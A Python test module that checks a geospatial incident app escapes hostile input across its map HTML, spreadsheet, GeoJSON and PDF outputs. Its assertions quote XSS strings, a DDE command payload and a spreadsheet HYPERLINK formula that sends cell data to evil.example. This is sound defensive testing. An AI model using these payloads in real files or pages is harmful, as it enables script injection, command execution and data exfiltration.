"""A hostile corpus through ingest → store → map HTML → CSV/XLSX/GeoJSON/Open311/GPKG → ward report.

Every value must come out inert: escaped in HTML (the map's tags and attributes are the
same as with harmless text), neutralised in CSV/XLSX, intact JSON strings in GeoJSON,
and control characters either dropped (NUL), escaped (JSON) or replaced (XLSX).
"""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from geo import services
from geo.errors import LimitExceeded
from geo.ingest import IngestLimits, IngestOptions
from geo.maps import map_html, ward_map
from geo.store import batches, open_store, queries
from tests._hostile import BIG, C0, CORPUS, FORMULA_START, TIP_TAGS, csv_bytes, xlsx_bytes


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, wards):
    """A store holding the corpus, ingested by a field user through the service layer."""
    tmp = tmp_path_factory.mktemp("hostile")
    store = open_store(f"sqlite:///{tmp / 'store.sqlite'}")
    boss = services.create_first_admin(store, "boss", "a-long-admin-password")
    field = services.add_user(store, boss, "field_team", "field-team-password", ["field"])
    viewer = services.add_user(store, boss, "leader", "leader-password-1", ["viewer"])
    limits = IngestLimits(max_cell_chars=200_000)
    services.ingest_file(
        store, field, csv_bytes(CORPUS),
        IngestOptions(file_name="hostile.csv", wards=wards, limits=limits),
    )
    services.ingest_file(
        store, field, xlsx_bytes(CORPUS),
        IngestOptions(file_name="hostile.xlsx", wards=wards, limits=limits),
    )
    yield store, viewer, tmp
    store.close()


def _stored(store) -> pd.DataFrame:
    return queries.incidents(store, limit=None)


# -- ingest and limits -------------------------------------------------------------------


def test_default_cell_limit_rejects_the_100kb_row_only_with_a_clear_message(tmp_path, wards):
    store = open_store(f"sqlite:///{tmp_path / 's.sqlite'}")
    boss = services.create_first_admin(store, "boss", "a-long-admin-password")
    result = services.ingest_file(
        store, boss, csv_bytes(CORPUS), IngestOptions(file_name="hostile.csv", wards=wards),
    )  # fmt: skip
    rows = result.preview.rows.set_index("row")
    big = CORPUS.index(BIG) + 1
    assert rows.loc[big, "reason"] == "cell_too_long" and rows.loc[big, "field"] == "dia_chi"
    message = rows.loc[big, "message_en"]
    assert message.startswith(f"Row {big}, column 'dia_chi': a cell is longer than")
    assert "GEO_INGEST_MAX_CELL_CHARS" in message and len(message) < 300  # not the 100 kB
    others = rows.drop(index=big)
    assert (others["reason"] != "cell_too_long").all()
    stored = _stored(store)
    assert len(stored) == result.summary()["accepted"] == (others["outcome"] == "accepted").sum()
    assert len(stored) >= len(CORPUS) - 1 - len(CORPUS) // 3  # the file was read, not refused
    assert not stored["address"].astype(str).str.contains("B" * 1000).any()
    with pytest.raises(LimitExceeded, match="bytes"):
        services.ingest_file(
            store, boss, csv_bytes(CORPUS),
            IngestOptions(
                file_name="hostile.csv",
                wards=wards,
                limits=IngestLimits(max_bytes=50_000),
            ),
        )
    with pytest.raises(LimitExceeded, match="rows"):
        services.ingest_file(
            store, boss, csv_bytes(CORPUS[:5]),
            IngestOptions(file_name="few.csv", wards=wards, limits=IngestLimits(max_rows=3)),
        )
    store.close()


def test_store_keeps_the_text_as_data_without_nul(hostile):
    store, _, _ = hostile
    stored = _stored(store)
    assert len(stored) == 2 * len(CORPUS)
    text = stored[["source_id", "type_text", "address", "note"]].astype(str)
    assert not text.apply(lambda c: c.str.contains("\x00", regex=False)).any().any()
    addresses = set(stored["address"].dropna())
    for value in CORPUS:
        if "\x00" in value:
            continue
        # stored as given (ingest trims surrounding whitespace; nothing is interpreted)
        assert value.strip() in addresses, value[:40]
    assert "a" + "b\x01c\x08d\x1be\x7ff" in addresses  # NUL dropped, the rest kept as data
    # the SQL-looking text did not run: the tables are all there
    assert {"incidents", "users", "audit_log"} <= set(store.row_counts())


# -- map HTML ----------------------------------------------------------------------------


class _Structure(HTMLParser):
    """Tags with their attribute names, and every URL-bearing attribute value."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.urls: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(sorted(a for a, _ in attrs))))
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"{tag}.{name}")
            if name in {"href", "src", "action", "formaction", "xlink:href"} and value:
                self.urls.append(value)


def _structure(doc: str) -> _Structure:
    parser = _Structure()
    parser.feed(doc)
    return parser


def _payload(doc: str) -> dict:
    match = re.search(r"var d = (\{.*?\});\n", doc, re.S)
    assert match, "incident payload not found in the map HTML"
    return json.loads(match.group(1).replace("<\\/", "</"))


def test_map_html_is_inert(hostile, wards):
    store, _, _ = hostile
    stored = _stored(store)
    doc = map_html(ward_map(wards, stored, assets="cdn", tiles=False))
    benign = stored.copy()
    for column in ("address", "street", "note", "type_text", "source_id"):
        benign[column] = [f"plain text {i}" for i in range(len(benign))]
    doc_benign = map_html(ward_map(wards, benign, assets="cdn", tiles=False))

    hostile_structure, benign_structure = _structure(doc), _structure(doc_benign)
    # the corpus added no element and no attribute: same tags, same attribute names
    assert sorted(set(hostile_structure.tags)) == sorted(set(benign_structure.tags))
    assert len(hostile_structure.tags) == len(benign_structure.tags)
    assert hostile_structure.handlers == benign_structure.handlers == []
    assert not any(u.strip().lower().startswith("javascript:") for u in hostile_structure.urls)
    # no raw markup from the corpus anywhere in the document
    for needle in ("<img src=x", "<svg onload", "<script>alert", '<a href="javascript'):
        assert needle not in doc
    # tooltips: only the map's own <b>/<br>, the corpus shown as text
    tips = [p[3] for p in _payload(doc)["p"]]
    assert len(tips) == len(stored)
    shown = "\n".join(tips)
    for tip in tips:
        tags = {t for t, _ in _structure(tip).tags}
        assert tags <= TIP_TAGS, tags
        assert not C0.search(tip)
    assert "&lt;img src=x onerror=alert(1)&gt;" in shown
    assert "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in shown
    assert "&lt;b&gt;" + "B" * 100_000 in shown  # long text stays whole, as text
    # control and bidi-override characters are shown as a visible U+FFFD, never acted on
    assert "\u202e" not in shown and "hóa đơn\ufffdgpj.exe" in shown
    assert "ab\ufffdc\ufffdd\ufffde\ufffdf" in shown
    assert "\u2028" not in shown and "\u2029" not in shown
    # control characters inside the <script> payload are JSON escapes, never raw
    script_text = doc[doc.index("var d = ") :]
    assert not C0.search(script_text.split(";\n", 1)[0])
    # "</" cannot close the payload's <script> early
    assert doc.count("<script") == doc_benign.count("<script")


# -- exports -----------------------------------------------------------------------------


def _is_inert_cell(value: object) -> bool:
    return not (isinstance(value, str) and value.startswith(FORMULA_START))


def test_csv_export_neutralises_formulas(hostile):
    store, viewer, tmp = hostile
    path = services.export(store, viewer, "csv", tmp / "out.csv")
    with Path(path).open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 2 * len(CORPUS)
    for row in rows:
        for column, value in row.items():
            assert _is_inert_cell(value), (column, value[:40])
    addresses = {r["address"] for r in rows}
    assert "'=1+1" in addresses and "'+1+1" in addresses and "'-1+1" in addresses
    assert "'@SUM(A1:A9)" in addresses
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")' in addresses
    assert "<b>" + "B" * 100_000 + "</b>" in addresses  # not cut: CSV has no cell limit
    audit = queries.audit_log(store, 1).iloc[0]
    assert (audit["actor"], audit["action"]) == ("leader", "export")


def test_xlsx_export_has_no_formulas_and_no_illegal_characters(hostile):
    store, viewer, tmp = hostile
    path = services.export(store, viewer, "xlsx", tmp / "out.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert ws.max_row == 2 * len(CORPUS) + 1
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        assert _is_inert_cell(cell.value), (cell.coordinate, str(cell.value)[:40])
        if isinstance(cell.value, str):
            assert not C0.search(cell.value)
            assert len(cell.value) <= 32_767
    values = {c.value for c in cells}
    assert "'=cmd|' /C calc'!A0" in values
    assert "ab\ufffdc\ufffdd\ufffde\x7ff" in values  # XML-illegal characters replaced


def test_geojson_and_open311_keep_strings_intact_and_inert(hostile):
    store, viewer, tmp = hostile
    stored = _stored(store)
    path = services.export(store, viewer, "geojson", tmp / "out.geojson")
    raw = Path(path).read_text(encoding="utf-8")
    assert not C0.search(raw)  # JSON escapes control characters
    doc = json.loads(raw)
    props = [f["properties"] for f in doc["features"]]
    # (formula cells of the Excel copy arrive empty: ingest reads values, never formulas)
    assert {p["address"] for p in props} - {None} == set(stored["address"].dropna())
    assert {p["note"] for p in props} - {None} == set(stored["note"].dropna())
    path = services.export(store, viewer, "open311", tmp / "out.json")
    raw = Path(path).read_text(encoding="utf-8")
    assert not C0.search(raw)
    requests = json.loads(raw)
    assert len(requests) == len(stored)
    texts = {json.dumps(r, ensure_ascii=False) for r in requests}
    assert any("<img src=x onerror=alert(1)>" in t for t in texts)  # data, not markup


def test_geopackage_keeps_strings_intact(hostile):
    store, viewer, tmp = hostile
    path = services.export(store, viewer, "gpkg", tmp / "out.gpkg")
    layer = gpd.read_file(path)
    assert set(layer["address"].dropna()) == set(_stored(store)["address"].dropna())


# -- ward report -------------------------------------------------------------------------


def test_ward_report_draws_hostile_street_names_as_text(hostile, wards):
    from geo.report import render, ward_report_data
    from tests._incidents import incident_frame

    store, _, _ = hostile
    rows = [
        ("sidewalk", "reported", 21.0128 + i * 1e-4, 105.8106, "00199", value[:200], "x", "2025-09-03T03:00Z")
        for i, value in enumerate(CORPUS)
    ]
    # street names are not typed by field teams (they come from the street layer), so a
    # hostile one is stored directly, as a corrupted layer would
    batches.commit_batch(store,
        {"file_name": "streets.csv", "sha256": "f" * 64, "source": "hostile-streets"},
        incident_frame(rows, source="hostile-streets"),
        pd.DataFrame(columns=["incident_id", "to_status", "at", "note"]),
        actor="test",
    )
    report = ward_report_data(store, wards, "00199")
    shown = set(report.streets["street"])
    assert len(shown) == 10 and shown <= {v[:200].strip() for v in CORPUS} | {v[:200] for v in CORPUS}
    pdf = render(report, "pdf")
    assert pdf.startswith(b"%PDF")
    for active in (b"/JavaScript", b"/JS ", b"/Launch", b"/OpenAction", b"/URI", b"/AA "):
        assert active not in pdf
    png = render(report, "png")
    assert png.startswith(b"\x89PNG")
